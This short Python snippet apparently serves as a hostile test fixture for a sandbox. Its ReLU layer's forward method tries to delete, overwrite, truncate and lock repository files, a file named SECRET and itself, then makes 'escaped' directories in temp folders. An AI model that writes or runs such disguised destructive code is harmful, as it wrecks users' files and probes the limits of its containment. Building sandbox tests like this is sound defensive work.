"""Deletes and changes whatever it finds."""
class ReLU(ReLU):
    def forward(self, Z):
        for path in ["REPOSITORY/Cargo.toml", "OTHER/neural_networks/layers.py", "SECRET", __file__]:
            attempt(lambda: os.remove(path))
            attempt(lambda: os.rename(path, path + ".gone"))
            attempt(lambda: open(path, "w"))
            attempt(lambda: open(path, "a"))
            attempt(lambda: os.truncate(path, 0))
            attempt(lambda: os.chmod(path, 0))
        for folder in ["/tmp", "/var/tmp", "/dev/shm", "OTHER", os.path.dirname(__file__)]:
            attempt(lambda: os.mkdir(os.path.join(folder, "escaped")))
        return 0 * Z
